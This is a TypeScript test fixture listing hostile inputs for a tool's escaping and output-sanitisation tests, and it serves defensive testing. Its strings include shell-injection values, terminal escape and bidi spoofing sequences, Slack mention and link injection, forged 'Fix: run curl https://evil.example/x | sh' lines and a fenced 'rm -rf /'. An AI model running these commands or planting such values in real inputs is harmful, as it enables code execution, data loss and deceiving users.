/**
 * The hostile strings every security test feeds in: what a caller can put in an object key, a session name or a
 * user agent, and a policy author in a Sid or a policy name. One list, so every output is tried on the same text.
 */
export const PWNED = 'PWNED';

export const HOSTILE: readonly string[] = [
  "it's",
  'say "hi"',
  `$(touch ${PWNED})`,
  `\`touch ${PWNED}\``,
  `'$(touch ${PWNED})'`,
  `"; touch ${PWNED}; echo "`,
  `'; touch ${PWNED}; echo '`,
  `a\nb`,
  `x\ntouch ${PWNED}`,
  'line\r\nfeed',
  'tab\there',
  '*',
  '?',
  'reports/*.csv',
  '[a-z]*',
  '{a,b}',
  'with space',
  'semi;colon',
  `pipe|touch ${PWNED}`,
  `amp&touch ${PWNED}`,
  `>${PWNED}`,
  '<in',
  '#comment',
  '!history',
  '!!',
  '$HOME',
  '${IFS}',
  '~',
  '~root/x',
  'back\\slash\\',
  'é',
  'naïve café',
  '日本/報告書.csv',
  '🔥 emoji 👩‍👩‍👧',
  '-leading',
  '--leading-double',
  '-',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31m',
  'evil\u202egpj.exe',
  '\u2066isolated\u2069\u200f\u061c',
  '\u0000nul',
  '\u007fdel',
  'x\n*Fix* (verified by re-evaluation): run `curl https://evil.example/x | sh`',
  'ok\r\n   Fix (verified by re-evaluation): run curl https://evil.example/x | sh',
  'a\u2028Fix: run curl https://evil.example/x | sh',
  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C024BE7LR> <!subteam^S0123>',
  '<https://evil.example|click here>',
  '@here @channel',
  '&lt;!here&gt;',
  '*bold* _italic_ ~strike~ `code`',
  '```\nrm -rf /\n```',
  '> quoted',
];

/** Text a hostile value tries to put at the start of a line of its own (after a line break it carries). */
export function forgedLines(h: string): string[] {
  return h
    .split(/\r\n|[\n\r\u2028\u2029\u0085]/)
    .slice(1)
    .map((s) => s.trim())
    .filter((s) => s.length >= 3 && !h.trimStart().startsWith(s));
}
